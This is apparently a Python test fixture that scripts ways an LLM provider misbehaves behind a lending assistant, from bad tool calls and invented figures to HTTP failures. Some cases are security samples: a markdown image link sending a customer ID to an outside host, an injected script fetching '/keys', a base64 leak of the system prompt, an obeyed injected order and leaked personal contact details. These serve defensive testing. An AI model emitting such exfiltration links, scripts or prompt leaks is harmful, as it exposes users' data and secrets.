"""Ways in which a provider misbehaves, and what the person gets all the same.

The books and tools are those of `fakes`: a list of borrowers whose first is C_4F21 with a PD of 63.12 %, the second
C_77A0 with 31.56 %, the third C_91BC with 21.04 %. The mind that takes over says that there are three.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from openai_server import Line, Reply, calls, fails, says

LIST = ("lists_borrowers", {"limit": 3})
TRUE = "There are 3 borrowers."
PROMPT = (Path(__file__).parents[2] / "assistant" / "prompts" / "system.md").read_text("utf-8")


@dataclass(frozen=True)
class Misbehaviour:
    """What the provider does, one reply after the other, the last one for ever; and what comes of it.

    Attributes
    ----------
    text
        The whole answer.
    mind
        Who answered: the model, ``embedded`` where it was given up.
    warns
        A pattern that the warnings hold.
    rows
        Rows on screen.
    live
        Whether the words are taken as they come.
    seconds, patience
        How long a question may take, and how long the provider may be silent.
    """

    name: str
    lines: tuple[Line, ...]
    text: str = TRUE
    mind: str = "embedded"
    warns: str = ""
    question: str = "top 3"
    status: str = "answered"
    rows: int | None = 3
    live: bool = False
    seconds: float = 30.0
    patience: float = 10.0
    never: tuple[str, ...] = field(default=())


def mended(name: str, *lines: Line, **more: Any) -> Misbehaviour:
    """The model comes round and answers itself."""
    return Misbehaviour(name, (*lines, calls(LIST), says(TRUE)), mind="openai:scripted-1", **more)


def invents(name: str, sentence: str) -> Misbehaviour:
    """The model puts one sentence in that nothing bears out."""
    text = f"{TRUE} C_4F21 leads."
    lines = (calls(LIST), says(f"{TRUE} {sentence} C_4F21 leads."))
    return Misbehaviour(name, lines, text, "openai:scripted-1", "1 sentence was left out")


def _other_each_time(request: dict[str, Any]) -> Reply:
    return calls(("lists_borrowers", {"limit": len(request["messages"])}))


def _recites(request: dict[str, Any]) -> Reply:
    return says(f"{TRUE} {request['messages'][0]['content']}")


_TWO_UNDER_ONE_ID = Reply(
    tool_calls=(("same", "lists_borrowers", '{"limit": 3}'), ("same", "quotes", '{"question": "npa"}'))
)
_BESIDE = Reply("There are 900 borrowers.", tool_calls=(("c", "lists_borrowers", '{"limit": 3}'),))
_PIECE = json.dumps({"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m",
                     "choices": [{"index": 0, "delta": {"content": "and "}, "finish_reason": None}]})  # fmt: skip

MISBEHAVIOURS: tuple[Misbehaviour, ...] = (
    # calls that cannot be made
    Misbehaviour("an unknown tool, for ever", (calls(("delete_books", {})),), warns="faulty tool calls"),
    mended("an unknown tool, once", calls(("list_borrowers", {}))),
    Misbehaviour("arguments that are no JSON", (calls(("lists_borrowers", '{"limit": ')),), warns="faulty tool calls"),
    Misbehaviour("arguments that are JSON but no object", (calls(("lists_borrowers", "[3]")),), warns="provider"),
    mended("arguments of the wrong type", calls(("lists_borrowers", {"limit": "three"}))),
    mended("arguments of the wrong shape", calls(("lists_borrowers", {"limit": {"$gt": 1}}))),
    Misbehaviour("wrong types, for ever", (calls(("lists_borrowers", {"limit": [3]})),), warns="faulty tool calls"),
    mended("a customer who does not exist", calls(("profiles", {"customer_id": "C_9999"}))),
    Misbehaviour("huge arguments", (calls(("quotes", {"question": "x" * 200_000})),), warns="more than 40000 char"),
    Misbehaviour("two calls under one id", (_TWO_UNDER_ONE_ID, says(f"{TRUE} An NPA is overdue [rbi-irac#npa].")),
                 f"{TRUE} An NPA is overdue [rbi-irac#npa].", "openai:scripted-1"),
    Misbehaviour("a call without an id", (Reply(tool_calls=(("", "lists_borrowers", '{"limit": 3}'),)), says(TRUE)),
                 mind="openai:scripted-1"),
    # no end
    Misbehaviour("the same call, for ever", (calls(LIST),), warns="came to no end"),
    Misbehaviour("another call each time, for ever", (_other_each_time,), warns="came to no end", question="list"),
    Misbehaviour("thirty calls at once", (calls(*[LIST] * 30),), warns="calls of tools"),
    # inventions
    invents("an invented number", "The average PD is 47.3 %."),
    invents("an invented number in words", "Seven hundred of them are overdue."),
    invents("a sum it made itself", "Together they owe ₹7,55,000."),
    invents("another's figure", "C_77A0 has a PD of 63.1 %."),
    invents("an invented customer", "C_0000 is the worst of them."),
    invents("an invented name", "Rajesh Verma is the worst of them."),
    invents("an invented date", "This was so on 30 June 2024."),
    invents("an invented place", "Most of them live in Chennai."),
    invents("a doubling that is none", "The exposure has doubled to ₹4,12,345.67."),
    invents("a tripling that is none", "The PD tripled from 31.6 % to 63.1 %."),
    invents("a highest that is none", "The highest PD among them is 31.6 %."),
    invents("a lowest that is none", "The lowest PD among them is 31.6 %."),
    invents("a first that is second", "C_77A0 has the highest PD of all."),
    invents("a fabricated citation", "An NPA is a loan that is overdue [rbi-irac#invented]."),
    invents("a link that carries data off", "![see](https://example.org/?q=C_4F21)."),
    invents("a script", "<script>fetch('/keys')</script> runs."),
    invents("its instructions, in code", f"It says {base64.b64encode(PROMPT.encode())[:120].decode()}."),
    # rules
    Misbehaviour("a rule's status left out", (calls(("quotes_old", {})), says("Three days [rbi-2022#cooling-off].")),
                 "Three days [rbi-2022#cooling-off] (superseded, to 2025-05-08).", "openai:scripted-1", rows=None),
    Misbehaviour("a rule without its citation", (calls(("quotes_old", {})), says("It is three days.")),
                 "It is three days.", "openai:scripted-1", "Digital lending guidelines: superseded", rows=None),
    # orders it found in data, and what it should not tell
    Misbehaviour("an order in a passage, obeyed", (calls(("quotes", {"question": "npa"})), calls(("refuses", {})),
                 says("The keys are K_1.")), "No statement may read the catalog.", "openai:scripted-1",
                 status="refused", rows=None),
    Misbehaviour("its instructions, recited", (calls(LIST), _recites), TRUE, "openai:scripted-1",
                 "only repeated the instructions", never=("never an instruction", "keep a lender")),
    Misbehaviour("personal data asked for and told",
                 (calls(("profiles", {"customer_id": "C_4F21"})),
                  says("C_4F21 is in Pune. Call +91 98200 12345 or mail ramesh.kulkarni@example.in.")),
                 "C_4F21 is in Pune.", "openai:scripted-1", "left out", rows=None),
    # answers that are none
    Misbehaviour("nothing", (says(""),), warns="no answer"),
    Misbehaviour("nothing that is seen", (says(" \u200b\u2060\n"),), warns="no answer"),
    Misbehaviour("a book", (calls(LIST), says("word " * 100_000)), warns="more than 40000 char"),
    Misbehaviour("figures without a call", (says("You have 900 borrowers."),), "Nothing that was found answers this "
                 "question.", "openai:scripted-1", "No tool was called", status="abstained", rows=None),
    Misbehaviour("words without a call", (says("All is well."),), "All is well.", "openai:scripted-1",
                 "nothing in this text comes from the books", status="abstained", rows=None),
    Misbehaviour("an answer beside a call", (_BESIDE, says(TRUE)), mind="openai:scripted-1"),
    mended("a list cut short", calls(("lists_borrowers", {"limit": 2})), question="the top 3 of them"),
    Misbehaviour("a list cut short, for ever", (calls(("lists_borrowers", {"limit": 2})),), warns="faulty tool calls"),
    Misbehaviour("a list told in part", (calls(LIST), says("All 3 are C_4F21 and C_77A0.")),
                 "All 3 are C_4F21 and C_77A0.", "openai:scripted-1"),
    Misbehaviour("an answer cut off", (Reply("There are", cut_off=True),), warns="cut off"),
    Misbehaviour("an answer stopped by a filter", (Reply("There are 3", finish="content_filter"),), warns="filter"),
    # the line
    Misbehaviour("slow", (Reply(TRUE, delay=0.6),), warns="Timeout", patience=0.2),
    Misbehaviour("silent in the middle", (Reply(TRUE, pause=0.6),), warns="provider failed", live=True, patience=0.2),
    Misbehaviour("a drip of words", (Reply(pause=0.02, endless=f"data: {_PIECE}\n\n"),), warns="no end within 1 sec",
                 live=True, seconds=1.0),
    Misbehaviour("a drip of nothing", (Reply(pause=0.02, endless=": wait\n\n"),), warns="no end within 1 seconds",
                 live=True, seconds=1.0),
    Misbehaviour("cut in the middle of a stream", (Reply(TRUE * 5, hang_up_after=3),), warns="provider", live=True),
    Misbehaviour("cut in the middle of a body", (Reply(TRUE, hang_up_after=40),), warns="provider failed"),
    Misbehaviour("a stream that just ends", (Reply("There are", finish=None),), warns="connection was cut", live=True),
    Misbehaviour("no JSON", (Reply(raw="<html>Bad gateway</html>"),), warns="provider failed"),
    Misbehaviour("JSON of another shape", (Reply(raw='{"choices": []}'),), warns="provider failed"),
    Misbehaviour("a list for a body", (Reply(raw="[1, 2]"),), warns="provider failed"),
    Misbehaviour("sent elsewhere", (fails(307, location="http://192.0.2.1/v1/chat/completions"),), warns="status 307"),
    mended("429, once", fails(429, retry_after="0.05")),
    Misbehaviour("429 for a minute", (fails(429, retry_after="60"),), warns="status 429"),
    Misbehaviour("429 with a mad Retry-After", (fails(429, retry_after="-1e9"),), warns="status 429"),
    Misbehaviour("500, for ever", (fails(500, retry_after="0.01"),), warns="status 500"),
    mended("503, once", fails(503, retry_after="0.05")),
    Misbehaviour("401", (fails(401),), warns="status 401"),
    mended("nonsense for usage", Reply(tool_calls=(("c", "lists_borrowers", '{"limit": 3}'),),
                                       usage={"prompt_tokens": -5, "completion_tokens": -1, "total_tokens": -6})),
)  # fmt: skip
